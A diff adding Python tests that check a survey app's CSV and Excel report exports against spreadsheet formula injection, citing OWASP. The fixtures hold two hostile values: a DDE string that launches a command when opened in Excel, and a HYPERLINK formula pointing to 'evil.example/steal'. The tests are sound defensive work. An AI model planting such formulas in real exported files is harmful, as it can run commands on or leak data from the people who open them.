@@ -127,3 +127,47 @@ def test_yousaid_report_writes_the_file(
         cli.main, ["report", "--period", "Octember", "--format", "csv", "--out", str(out)]
     )
     assert bad.exit_code == 1 and "Write the period as a month" in bad.output
+
+
+HOSTILE_COMMENT = "=cmd|' /C calc'!A0 the panel never called me back"
+HOSTILE_ENTRY = '=HYPERLINK("http://evil.example/steal","Open the plan")'
+
+
+def _hostile_report(loaded: Any, monkeypatch: Any) -> Any:
+    seed_evidence(loaded)
+    for day in range(1, 8):
+        respond(loaded, dt.date(2026, 10, 10 + day), agree=False, why=HOSTILE_COMMENT)
+    monkeypatch.setattr(
+        "survey.officers.reports.report_entries",
+        lambda _session, period: [ReportEntry(HOSTILE_ENTRY, "-1 waiting days", "2.5")],
+    )
+    return build_report(loaded, OCTOBER)
+
+
+def test_no_text_in_the_csv_can_run_as_a_formula(loaded: Any, app: Any, monkeypatch: Any) -> None:
+    # OWASP CSV injection: a parent's comment opened in Excel must stay a comment.
+    with app.app_context():
+        text = render(_hostile_report(loaded, monkeypatch), "csv")[0].decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert any(HOSTILE_COMMENT in cell for cell in cells), "the comment should be quoted"
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    assert f"'{HOSTILE_COMMENT}" in text or "'=cmd" in text
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["code"] == "2A")
+    assert float(row["n_shown"]) > 0  # numbers are still numbers
+
+
+def test_no_text_in_the_workbook_is_a_formula_and_it_reads_as_written(
+    loaded: Any, app: Any, monkeypatch: Any
+) -> None:
+    with app.app_context():
+        body = render(_hostile_report(loaded, monkeypatch), "xlsx")[0]
+    book = load_workbook(io.BytesIO(body))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    entry = next(c for c in cells if c.value == HOSTILE_ENTRY)
+    assert entry.data_type == "s" and entry.quotePrefix
+    assert any(isinstance(c.value, str) and HOSTILE_COMMENT in c.value for c in cells)
+    said = next(c for c in cells if c.value == "-1 waiting days")
+    assert said.quotePrefix
+    assert any(isinstance(c.value, float | int) and not isinstance(c.value, bool) for c in cells)
